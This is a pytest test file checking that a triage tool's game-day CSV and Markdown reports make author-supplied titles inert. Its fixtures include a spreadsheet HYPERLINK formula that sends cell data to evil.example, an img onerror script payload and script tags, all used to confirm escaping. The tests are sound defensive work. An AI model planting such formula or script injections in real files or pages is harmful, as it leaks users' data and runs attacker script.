"""Issue 18, item 10: game-day reports are inert. A round title (authored in a shared plan) that
a spreadsheet would run as a formula is a plain text cell in the CSV report, and HTML or link
syntax in authored text is shown, not rendered, in the Markdown report."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from triage.cli import main
from triage.gameday.report import csv_cell

FIXTURE = Path(__file__).parent.parent / "fixtures" / "shapes_only.yaml"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'
HTML = "<img src=x onerror=alert(1)> [click](https://evil.example) ![i](/p.png)"
PLAN = f"""\
schema: triage/gameday@1
title: 'Drill <script>alert(1)</script> [docs](https://evil.example)'
teams: [red, blue]
rounds:
  - title: '{FORMULA.replace("'", "''")}'
    incident: {FIXTURE.name}
    seed: 3
    time_limit: 10m
  - title: '{HTML}'
    incident: {FIXTURE.name}
    seed: 4
    time_limit: 10m
  - title: "@SUM(1+1)"
    incident: {FIXTURE.name}
    seed: 5
    time_limit: 10m
"""


@pytest.fixture
def run_id(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> str:
    """A run of the hostile plan, every turn timed out (no actions files)."""
    plan = tmp_path / "plan.yaml"
    plan.write_text(PLAN, encoding="utf-8")
    (tmp_path / FIXTURE.name).write_bytes(FIXTURE.read_bytes())
    (tmp_path / "plays").mkdir()
    assert main(["gameday", "run", str(plan), "--headless", "--actions-dir",
                 str(tmp_path / "plays"), "--run-id", "hostile"]) == 0
    capsys.readouterr()
    return "hostile"


def report(capsys: pytest.CaptureFixture[str], run: str, output: str) -> str:
    assert main(["gameday", "report", run, "--format", output]) == 0
    return capsys.readouterr().out


def test_no_csv_cell_starts_a_formula(run_id: str, capsys: pytest.CaptureFixture[str]) -> None:
    rows = list(csv.reader(io.StringIO(report(capsys, run_id, "csv"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert len(rows) == 7  # the header, then 3 rounds x 2 teams
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    titles = {row[2] for row in rows[1:]}
    assert titles == {"'" + FORMULA, HTML, "'@SUM(1+1)"}  # the text kept, made inert


@pytest.mark.parametrize("text", ["=1+2", "+1", "-1+1", "@A1", "\tx", "\r=1"])
def test_csv_cell_neutralises_every_formula_start(text: str) -> None:
    assert csv_cell(text).startswith("'")


@pytest.mark.parametrize("text", ["plain", "1-2", "a=b", "'quoted"])
def test_csv_cell_leaves_ordinary_text_alone(text: str) -> None:
    assert csv_cell(text) == text


def test_markdown_shows_html_and_links_as_text(run_id: str,
                                               capsys: pytest.CaptureFixture[str]) -> None:
    md = report(capsys, run_id, "md")
    assert "<" not in md and ">" not in md  # no tag of any kind
    assert re.search(r"(?<!\\)[\[\]]", md) is None  # every bracket escaped: no link, no image
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in md
    assert "\\[click\\](https://evil.example)" in md  # visible, but not a link
    assert md.startswith("# Game day: Drill &lt;script&gt;")
    # Escaping leaves the ordinary tables intact: every row of the standings has its cells.
    standings = [line for line in md.splitlines() if line.startswith("| 1 |")]
    assert len(standings) == 2 and all(line.count(" | ") == 5 for line in standings)
